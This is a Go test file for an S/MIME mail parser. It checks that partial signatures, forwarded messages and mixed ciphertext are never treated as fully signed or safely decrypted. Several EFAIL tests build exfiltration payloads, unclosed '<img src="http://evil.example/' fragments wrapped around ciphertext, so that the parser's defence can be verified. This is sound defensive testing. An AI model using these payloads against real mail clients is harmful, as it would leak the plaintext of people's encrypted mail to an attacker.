package smime

import (
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/waxwing-mail/waxwing/finding"
)

// entityOf splits a mail into its header without the fields of the body, and the entity.
func entityOf(mail string) (outer, entity string) {
	header, body, _ := strings.Cut(mail, "\r\n\r\n")
	var inner []string
	var out []string
	take := &out
	for line := range strings.SplitSeq(header, "\r\n") {
		if line[0] != ' ' && line[0] != '\t' {
			take = &out
			if strings.HasPrefix(strings.ToLower(line), "content-") {
				take = &inner
			}
		}
		*take = append(*take, line)
	}
	return strings.Join(out, "\r\n") + "\r\n", strings.Join(inner, "\r\n") + "\r\n\r\n" + body
}

// around puts a mail's entity into a multipart with other parts.
func around(mail, subtype string, before, after []string) string {
	outer, entity := entityOf(mail)
	parts := append(append(append([]string{}, before...), entity), after...)
	var b strings.Builder
	b.WriteString(outer + "Content-Type: multipart/" + subtype + "; boundary=\"around\"\r\n\r\n")
	for _, p := range parts {
		b.WriteString("--around\r\n" + p + "\r\n")
	}
	return b.String() + "--around--\r\n"
}

const footer = "Content-Type: text/plain\r\n\r\n_____\r\nour list, our footer\r\n"

func withFooter(mail string) string { return around(mail, "mixed", nil, []string{footer}) }

// A signature that covers only a part is never good.
func TestASignatureOverAPartIsPartial(t *testing.T) {
	s := newStory(t)
	clear, opaque := s.clear(s.mail, s.alice), s.opaque(s.mail, s.alice)
	for name, mail := range map[string]string{
		"a footer of a mailing list":                 withFooter(clear),
		"a footer behind an opaque signature":        withFooter(opaque),
		"other text in front":                        around(clear, "mixed", []string{footer}, nil),
		"related":                                    around(clear, "related", []string{"Content-Type: text/html\r\n\r\n<p>pay\r\n"}, nil),
		"alternative":                                around(clear, "alternative", []string{"Content-Type: text/html\r\n\r\n<p>pay\r\n"}, nil),
		"alone in a multipart":                       around(clear, "mixed", nil, nil),
		"signed and encrypted, then a footer inside": s.encrypt(withFooter(clear), gcm, s.bob),
		"two signed parts":                           around(clear, "mixed", []string{mustEntity(clear)}, nil),
	} {
		t.Run(name, func(t *testing.T) {
			r := s.open(mail)
			if r.Signed != CoversPart {
				t.Errorf("signed %s", r.Signed)
			}
			wantFinding(t, r.Findings, finding.MessagePartlySigned)
			wantNotGood(t, r)
		})
	}
}

func mustEntity(mail string) string {
	_, e := entityOf(mail)
	return e
}

func TestFurtherPartsOfASignedMultipartAreNotCovered(t *testing.T) {
	s := newStory(t)
	mail := s.clear(s.mail, s.alice)
	end := strings.LastIndex(mail, "\r\n--")
	boundary := strings.TrimSuffix(strings.TrimSpace(mail[end:]), "--")
	mail = mail[:end] + "\r\n" + boundary + "\r\n" + footer + mail[end:]
	r := s.open(mail)
	if r.Signed != CoversPart || len(r.Root.Children) != 2 || r.Root.Children[1].Path != "1.3" {
		t.Errorf("signed %s, %d children", r.Signed, len(r.Root.Children))
	}
	wantFinding(t, r.Findings, finding.MIMEExtraParts)
	wantNotGood(t, r)
	if sr := r.Root.Signers[0]; !sr.DigestOK || !sr.SignatureOK {
		t.Errorf("the signature over the first part still holds: %+v", sr)
	}
}

func TestASignedAttachmentIsNoSignedMail(t *testing.T) {
	s := newStory(t)
	_, entity := entityOf(s.opaque(s.mail, s.alice))
	outer, _ := entityOf(s.mail)
	mail := outer + "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nsee the attached contract\r\n--x\r\n" + entity + "\r\n--x--\r\n"
	r := s.open(mail)
	if r.Signed != CoversPart || len(r.Signers) != 0 {
		t.Errorf("signed %s by %d", r.Signed, len(r.Signers))
	}
	wantNotGood(t, r)
}

func TestAForwardedMessageSpeaksForItself(t *testing.T) {
	s := newStory(t)
	inner := s.clear(s.mail, s.alice)
	carrier := "From: mallory@example.net\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=fw\r\n\r\n" +
		"--fw\r\n\r\nlook\r\n--fw\r\nContent-Type: message/rfc822\r\n\r\n" + inner + "\r\n--fw--\r\n"
	for name, mail := range map[string]string{
		"beside text":      carrier,
		"as the only body": "From: mallory@example.net\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + inner,
	} {
		t.Run(name, func(t *testing.T) {
			r := s.open(mail)
			if r.Signed != CoversNothing || len(r.Signers) != 0 || len(r.Forwarded) != 1 {
				t.Fatalf("signed %s by %d, %d inside", r.Signed, len(r.Signers), len(r.Forwarded))
			}
			wantFinding(t, r.Findings, finding.MessageInsideForward, finding.MessageUnsigned)
			if r.Sender.Claimed[0] != "mallory@example.net" {
				t.Errorf("sender %v", r.Sender.Claimed)
			}
			f := r.Forwarded[0]
			wantGood(t, f)
			if f.Sender.Claimed[0] != "alice@example.org" || f.Where == "" || f.Root.Path != f.Where+".1" && f.Root.Path != f.Where {
				t.Errorf("inside: sender %v at %q, root %q", f.Sender.Claimed, f.Where, f.Root.Path)
			}
			if len(r.Verified()) != 0 {
				t.Error("the outer message has a proof")
			}
		})
	}
}

func TestAForwarderWhoSignsVouchesForWhatHeForwards(t *testing.T) {
	s := newStory(t)
	inner := "From: carol@example.net\r\nSubject: inside\r\n\r\nhello\r\n"
	mail := s.clear("From: alice@example.org\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"+inner, s.alice)
	r := s.open(mail)
	wantGood(t, r)
	if len(r.Forwarded) != 1 || r.Forwarded[0].Signed != CoversNothing || r.Headers != nil {
		t.Errorf("%d inside, headers %+v", len(r.Forwarded), r.Headers)
	}
}

// EFAIL: ciphertext beside other parts is never joined with them.
func TestCiphertextBesideOtherPartsIsFlagged(t *testing.T) {
	s := newStory(t)
	secret := s.encrypt(s.mail, cbc, s.bob)
	img := "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"
	shut := "Content-Type: text/html\r\n\r\n\">\r\n"
	for name, mail := range map[string]string{
		"between two halves of HTML": around(secret, "mixed", []string{img}, []string{shut}),
		"related":                    around(secret, "related", []string{img}, nil),
		"a footer":                   withFooter(secret),
		"two ciphertexts":            around(secret, "mixed", []string{mustEntity(s.encrypt(s.mail, gcm, s.bob))}, nil),
	} {
		t.Run(name, func(t *testing.T) {
			r := s.open(mail)
			wantFinding(t, r.Findings, finding.EncryptionMixed)
			if r.Encrypted != CoversPart {
				t.Errorf("encrypted %s", r.Encrypted)
			}
			sources := map[int]bool{}
			r.Root.each(true, func(l *Layer) { sources[l.Source] = true })
			if len(sources) < 2 {
				t.Error("decrypted text is no source of its own")
			}
			if err := r.WriteMessage(io.Discard); !errors.Is(err, errPart) {
				t.Errorf("decrypted text is joined with other parts: %v", err)
			}
		})
	}
	r := s.open(s.clear(withFooter(secret), s.alice))
	if has(r.Findings, finding.EncryptionMixed) {
		t.Error("a signer who put the parts together vouches for them")
	}
	wantFinding(t, r.Findings, finding.EncryptionPart)
	wantGood(t, r)
}

func TestASignerOfCiphertextNeedNotKnowTheText(t *testing.T) {
	s := newStory(t)
	r := s.open(s.clear(s.encrypt(s.mail, gcm, s.bob), s.alice))
	if len(r.Signers) != 1 || !r.Signers[0].OverCiphertext || !r.Signers[0].OK() {
		t.Fatalf("%+v", r.Signers)
	}
	wantFinding(t, r.Findings, finding.SignerOutside)
	if len(r.Verified()) != 0 {
		t.Error("a signature over ciphertext proves nothing about the text")
	}
}

func TestHTMLOutOfAWeakEncryptionMustBeWhole(t *testing.T) {
	s := newStory(t)
	html := func(body string) string {
		return "From: alice@example.org\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + body
	}
	whole, half := html("<!DOCTYPE html><html><body>hi</body></html>\r\n"), html("<img src=\"http://evil.example/\r\nsecret\r\n")
	for _, c := range []struct {
		name, mail string
		want       bool
	}{
		{"half a document", s.encrypt(half, cbc, s.bob), true},
		{"a whole document", s.encrypt(whole, cbc, s.bob), false},
		{"half a document, signed inside", s.encrypt(s.clear(half, s.alice), cbc, s.bob), false},
		{"half a document under an AEAD", s.encrypt(half, gcm, s.bob), false},
		{"half a document in the clear", half, false},
	} {
		if got := has(s.open(c.mail).Findings, finding.MIMEFragment); got != c.want {
			t.Errorf("%s: %v", c.name, got)
		}
	}
}
